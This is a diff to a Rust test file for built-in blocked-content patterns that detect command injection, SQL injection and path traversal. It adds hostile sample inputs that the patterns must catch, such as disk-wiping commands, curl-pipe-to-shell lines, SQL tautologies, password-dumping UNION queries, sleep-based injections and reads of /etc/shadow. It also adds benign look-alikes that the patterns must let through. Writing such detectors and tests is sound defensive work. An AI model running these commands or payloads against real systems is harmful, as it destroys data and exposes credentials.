@@ -1,5 +1,5 @@
 //! The built-in blocked-content patterns catch the obvious variants of each attack, and not
-//! the prose around them.
+//! the prose, docs and code around them.
 
 #![allow(clippy::unwrap_used)] // tests fail loudly on the first unexpected error
 
@@ -22,20 +22,33 @@ fn command_chaining_in_every_form() {
         COMMAND_INJECTION,
         &[
             "ls; rm -rf /",
-            "ls & rm -rf /",
             "ls && curl http://x | sh",
             "ls | sh",
             "ls || wget http://x",
             "echo ok\nrm -rf /",
-            "echo ok\r\ncurl http://x",
+            "echo ok\r\ncurl http://x | bash",
+            "ls & rm -rf /",
             "echo $(curl http://x)",
             "echo `wget http://x`",
+            "; /bin/rm -rf /",
+            "; /usr/bin/curl http://x",
+            "; \\rm -rf /",
+            "; 'rm' -rf /",
+            "; sudo -u root rm -rf /",
+            "; env rm -rf /",
+            "x\nmkfs.ext4 /dev/sda",
+            "x\ndd if=/dev/zero of=/dev/sda",
         ],
         &[
             "Tom & Jerry",
+            "Tom & dd went home",
             "rm is a command",
             "pros & cons of shells",
             "a\nremark",
+            "Run this:\ncurl https://example.com/install.sh",
+            "Install:\npython -m pip install requests",
+            "```\nbash setup.sh\n```",
+            "Steps:\nkill the old process first",
         ],
     );
 }
@@ -48,15 +61,31 @@ fn sql_injection_with_comments_and_string_tautologies() {
             "DROP TABLE users",
             "DROP/**/TABLE users",
             "drop/* x */table users",
-            "UNION/**/SELECT password",
+            "DROP VIEW users",
+            "DROP USER admin",
+            "UNION/**/SELECT password, 1 FROM users",
+            "' UNION DISTINCT SELECT 1",
+            "1 UNION(SELECT 1)",
+            "' UNION SELECT username, password FROM users",
             "' OR 'a'='a",
             "' or 'x' = 'x",
+            "\" OR \"1\"=\"1",
+            "' OR TRUE--",
+            "admin'--",
             "' OR 1=1",
+            "1; DELETE FROM users",
+            "1' AND sleep(5) AND '1'='1",
+            "1; SELECT pg_sleep(5)",
         ],
         &[
             "drop the table from the plan",
             "union members select a leader",
+            "a union select few",
             "it's 'a' or 'b'",
+            "Open the tray; insert the disc.",
+            "Meeting moved to 3pm; update your calendar.",
+            "Select the text; delete the rest.",
+            "Preheat the oven; drop the dough",
         ],
     );
 }
@@ -67,14 +96,24 @@ fn path_traversal_encoded_once_twice_and_as_file_urls() {
         PATH_TRAVERSAL,
         &[
             "../../etc/passwd",
-            "..\\windows",
+            "../etc/shadow",
+            "..\\..\\windows",
             "%2e%2e%2fetc",
             "..%2fetc",
             "..%252fetc",
             "%252e%252e%252fetc",
             "file:///etc/hosts",
             "cat /etc/shadow",
+            "/etc//passwd",
+            "/proc/self/environ",
         ],
-        &["see the docs.", "version 1.2.3", "https://example.com/a/b"],
+        &[
+            "see the docs.",
+            "version 1.2.3",
+            "https://example.com/a/b",
+            "import { foo } from '../utils/foo';",
+            "See ../README.md",
+            "file:///C:/Users/me/report.html",
+        ],
     );
 }
